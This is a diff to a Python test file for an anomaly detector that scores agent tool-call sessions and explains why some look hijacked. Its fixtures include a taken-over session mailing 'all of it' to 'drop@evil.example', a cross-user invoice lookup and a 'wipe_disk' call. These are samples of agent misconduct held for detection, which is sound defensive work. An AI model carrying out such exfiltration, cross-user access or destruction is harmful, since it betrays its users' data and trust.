@@ -54,6 +54,41 @@ def test_honest_sessions_cannot_be_told_apart(model: Model) -> None:
     assert auroc(scored["anomaly"].to_numpy(), heap) == pytest.approx(0.5, abs=0.08)
 
 
+def test_a_session_taken_over_is_betrayed_by_where_it_sends(model: Model) -> None:
+    """An address that came from no result and that nobody knows is the reason, where known ones are usual."""
+    calls: list[Call] = [
+        ("list_mail", [], ["person1@office.example"]), ("read_mail", [], ["person1@office.example", "text"]),
+        ("find_contact", [], ["person1@office.example"]), ("send_mail", ["drop@evil.example", "all of it"], []),
+    ]  # fmt: skip
+    scored = score(model, frame([("bad", "desk", calls), *history(60, seed=2)]))
+    bad = of(scored, "bad")
+    assert bad["anomaly"] == scored.sessions["anomaly"].max()
+    assert bad["top_event"] == "bad.3"
+    assert "send_mail on office was given an address that none of the 300 sessions" in str(bad["reason"])
+
+
+def test_what_belongs_to_another_user_stands_out() -> None:
+    """A value that history has seen with one other user surprises; one's own, a shared one, and no user do not."""
+    invoices = [(u, [(f"{u}{n}", "desk", [("get_invoice", [f"order-of-{u}", "shared-order"], [])]) for n in range(20)])
+                for u in ("ana", "bo", "cy")]  # fmt: skip
+    learned = train(pl.concat([frame(sessions, user=user) for user, sessions in invoices]))
+
+    def asked(value: str, user: str | None) -> dict[str, object]:
+        return of(score(learned, frame([("one", "desk", [("get_invoice", [value], [])])], user=user)), "one")
+
+    assert asked("order-of-bo", "ana")["foreign"] > 3
+    assert asked("order-of-bo", "new-user")["foreign"] > 3
+    assert "seen with one other user only" in str(asked("order-of-bo", "ana")["reason"])
+    assert [
+        asked(*of_)["foreign"]
+        for of_ in (("order-of-ana", "ana"), ("shared-order", "ana"), ("order-of-bo", None))
+    ] == [
+        0,
+        0,
+        0,
+    ]
+
+
 def test_an_unknown_tool_and_an_unknown_errand_are_explained(model: Model) -> None:
     """A tool that history does not know is named as such; a known one in strange company as what it is."""
     alien: list[Call] = [("read_calendar", [], []), ("wipe_disk", [], [])]
@@ -124,7 +159,9 @@ def test_a_history_without_fingerprints_can_be_learned() -> None:
 def test_absent_columns_count_as_null_and_needed_ones_are_named(model: Model) -> None:
     """Columns that are not there are null; without one that is needed the error names it."""
     events = frame([hijacked()])
-    bare = events.drop("args_leaves", "result_leaves", "client_name", "server_name")
+    bare = events.drop(
+        "args_leaves", "result_leaves", "args_addresses", "client_name", "server_name", "user_id"
+    )
     assert score(model, bare.to_arrow()).sessions["basis"].to_list() == ["tools"]
     with pytest.raises(ValueError, match="no column session"):
         score(model, events.drop("session"))
@@ -151,14 +188,14 @@ def test_a_client_of_its_own_habits_is_forgiven_them() -> None:
 
 
 def test_a_model_is_plain_data_without_content(model: Model) -> None:
-    """A model goes through Arrow unchanged; its only texts are names of tools and clients."""
+    """A model goes through Arrow unchanged; its only texts are names of tools, clients and users."""
     table = to_arrow(model)
     assert from_arrow(table).tools == model.tools
     assert to_arrow(from_arrow(table)).equals(table)
     judged = frame([hijacked(), *history(20, seed=2)])
     assert score(from_arrow(table), judged).sessions.equals(score(model, judged).sessions)
     texts = {text for held in table["text"].to_pylist() if held for text in held}
-    assert texts == {*model.tools, *model.clients}
+    assert texts == {*model.tools, *model.clients, *model.users}
 
 
 def test_a_model_of_another_form_is_refused(model: Model) -> None:
@@ -174,5 +211,5 @@ def test_weights_of_nothing_find_nothing(model: Model) -> None:
     """Every part of a total is weighed: without weights no session surprises."""
     from analytics.anomaly import WEIGHTS
 
-    none = replace(WEIGHTS, flow=0.0, given=0.0, order=0.0, company=0.0, bag=0.0, length=0.0)
+    none = replace(WEIGHTS, flow=0.0, address=0.0, given=0.0, order=0.0, company=0.0, bag=0.0, length=0.0)
     assert score(model, frame([hijacked()]), none).sessions["surprise"].to_list() == [0]
